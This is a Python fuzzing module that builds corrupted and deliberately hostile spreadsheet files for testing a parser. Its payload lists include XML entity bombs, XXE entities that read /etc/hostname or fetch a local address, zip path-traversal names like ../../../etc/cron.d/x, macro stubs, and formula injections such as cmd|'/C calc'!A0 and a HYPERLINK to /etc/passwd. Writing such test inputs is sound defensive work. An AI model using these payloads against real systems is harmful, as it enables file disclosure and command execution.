"""What is done to a file: damage by chance, and what somebody would do who means harm.

All of it by hypothesis, so that a failure is shrunk and can be repeated by its seed.
"""

import re
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from hypothesis import strategies as st

from fuzz.seeds import seeds

ZIP = b"PK\x03\x04"
SECRET = "/etc/hostname"
"""A file of the machine that no answer may contain."""

Parts = list[tuple[str, bytes]]


@dataclass(frozen=True)
class Hostile:
    """A file, and what was done to which seed."""

    name: str
    how: str
    data: bytes

    def __repr__(self) -> str:
        return f"{self.how} of {self.name}, {len(self.data)} bytes"


@st.composite
def hostile(draw: st.DrawFn) -> Hostile:
    name = draw(st.sampled_from(sorted(seeds())))
    data = seeds()[name]
    kinds = {**BYTES, **(PARTS if data.startswith(ZIP) else {})}
    how = draw(st.sampled_from(sorted(kinds)))
    return Hostile(name, how, kinds[how](draw, data))


# -- the bytes of the file -------------------------------------------------------------------------------------------


def changed(draw: st.DrawFn, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(draw(st.integers(1, 6))):
        at, some = draw(st.integers(0, len(out) - 1)), draw(st.binary(min_size=1, max_size=6))
        out[at : at + len(some)] = some
    return bytes(out)


def cut(draw: st.DrawFn, data: bytes) -> bytes:
    return data[: draw(st.integers(0, len(data) - 1))]


def joined(draw: st.DrawFn, data: bytes) -> bytes:
    other = seeds()[draw(st.sampled_from(sorted(seeds())))]
    return data[: draw(st.integers(1, len(data)))] + other[draw(st.integers(0, len(other) - 1)) :]


def lying(draw: st.DrawFn, data: bytes) -> bytes:
    """Sizes and places that the zip's directory, or the old format's header, claims."""
    marks = [found.start() for found in re.finditer(b"PK\x01\x02|PK\x03\x04|PK\x05\x06", data)] or [0]
    at = draw(st.sampled_from(marks)) + draw(st.integers(4, 44))
    claimed = draw(st.sampled_from((0, 1, 2**16 - 1, 2**31 - 1, 2**32 - 1))).to_bytes(4, "little")
    return data[:at] + claimed + data[at + 4 :]


BYTES: dict[str, Callable[[st.DrawFn, bytes], bytes]] = {
    "bytes changed": changed,
    "cut short": cut,
    "two joined": joined,
    "lies about sizes": lying,
}


# -- what is inside --------------------------------------------------------------------------------------------------


def parts_of(data: bytes) -> Parts:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def packed(parts: Parts) -> bytes:
    """Also two of one name, which zipfile warns of."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def _one(draw: st.DrawFn, data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """One of its XML parts changed."""
    parts = parts_of(data)
    chosen = draw(st.sampled_from([name for name, content in parts if content.lstrip().startswith(b"<")]))
    return packed([(name, change(content) if name == chosen else content) for name, content in parts])


def xml_changed(draw: st.DrawFn, data: bytes) -> bytes:
    return _one(draw, data, lambda content: changed(draw, content) if content else content)


EXTREME = (
    b"-1",
    b"0",
    b"1e308",
    b"99999999999999999999",
    b"NaN",
    b"",
    b"\xff\xfe",
    b"&#0;",
    b"XFD1048576",
    b"A0",
    b"#REF!",
)


def values_changed(draw: st.DrawFn, data: bytes) -> bytes:
    """Numbers, addresses and names of attributes and cells become what no program would write."""
    value, every = draw(st.sampled_from(EXTREME)), draw(st.integers(1, 40))

    def change(content: bytes) -> bytes:
        at = 0

        def put(found: "re.Match[bytes]") -> bytes:
            nonlocal at
            at += 1
            return found[1] + value + found[3] if at % every == 0 else found[0]

        return re.sub(rb'([="><]")?([A-Z]{0,3}[0-9]{1,9})(["<])', _safe(put), content)

    return _one(draw, data, change)


def _safe(put: Callable[["re.Match[bytes]"], bytes]) -> Callable[["re.Match[bytes]"], bytes]:
    return lambda found: put(found) if found[1] is not None else found[0]


def repeated(draw: st.DrawFn, data: bytes) -> bytes:
    """A piece of it again and again: far too many cells, texts, levels."""
    times = draw(st.sampled_from((10, 1_000, 100_000)))

    def change(content: bytes) -> bytes:
        start = draw(st.integers(0, len(content) - 1))
        piece = content[start : start + draw(st.integers(1, 60))]
        return content[:start] + piece * times + content[start:]

    return _one(draw, data, change)


def bomb(draw: st.DrawFn, data: bytes) -> bytes:
    """Entities that swell, or that fetch a file of the machine or an address."""
    laugh = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    declared = {
        "l9": f'<!ENTITY l0 "ha">{laugh}',
        "x": f'<!ENTITY x SYSTEM "file://{SECRET}">',
        "y": '<!ENTITY y SYSTEM "http://127.0.0.1:9/rahasia">',
    }
    entity = draw(st.sampled_from(sorted(declared)))

    def change(content: bytes) -> bytes:
        body = re.sub(rb"^\s*<\?xml[^>]*\?>", b"", content)
        root = (re.search(rb"<([\w:]+)", body) or [b"", b"a"])[1]
        filled = re.sub(rb">([^<>&]+)<", f">&{entity};<".encode(), body, count=draw(st.integers(1, 20)))
        doctype = b"<!DOCTYPE " + root + b" [" + declared[entity].encode() + b"]>"
        return b'<?xml version="1.0"?>' + doctype + filled

    return _one(draw, data, change)


NAMES = ("../../../etc/cron.d/x", "/etc/passwd", "C:\\windows\\x", "xl/" + "a" * 4000, "xl//workbook.xml", "nul\x01")


def renamed(draw: st.DrawFn, data: bytes) -> bytes:
    """Names with path parts, of others, twice."""
    parts = parts_of(data)
    at = draw(st.integers(0, len(parts) - 1))
    other = draw(st.sampled_from((*NAMES, parts[draw(st.integers(0, len(parts) - 1))][0])))
    kept = parts if draw(st.booleans()) else [*parts[:at], *parts[at + 1 :]]
    return packed([*kept, (other, parts[at][1])])


EXTRAS: Parts = [
    ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()" * 50),
    ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000),
    (
        "xl/externalLinks/externalLink1.xml",
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>',
    ),
    (
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="x" Target="http://127.0.0.1:9/buku.xlsx" TargetMode="External"/></Relationships>',
    ),
    ("customUI/customUI.xml", b"<customUI onLoad='jalan'/>"),
]


def carrying(draw: st.DrawFn, data: bytes) -> bytes:
    """Macros, embedded objects, links to elsewhere."""
    return packed([*parts_of(data), *draw(st.lists(st.sampled_from(EXTRAS), min_size=1, max_size=5))])


FORMULAS = (
    b'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)',
    b"cmd|'/C calc'!A0",
    b'HYPERLINK("file:///etc/passwd","x")',
    b"INDIRECT(A1)",
    b"1/0",
)


def formulas(draw: st.DrawFn, data: bytes) -> bytes:
    """Formulas where figures stood, with and without a value."""
    formula = draw(st.sampled_from(FORMULAS))
    tail = draw(st.sampled_from((b"", b"<v>1</v>", b"<v>=1+1</v>", b"<v>#NAME?</v>")))
    return _one(draw, data, lambda content: re.sub(rb"<v>[^<]*</v>", b"<f>" + formula + b"</f>" + tail, content))


PARTS: dict[str, Callable[[st.DrawFn, bytes], bytes]] = {
    "an XML part changed": xml_changed,
    "values changed": values_changed,
    "a piece repeated": repeated,
    "entities": bomb,
    "parts renamed": renamed,
    "more than a workbook": carrying,
    "formulas": formulas,
}
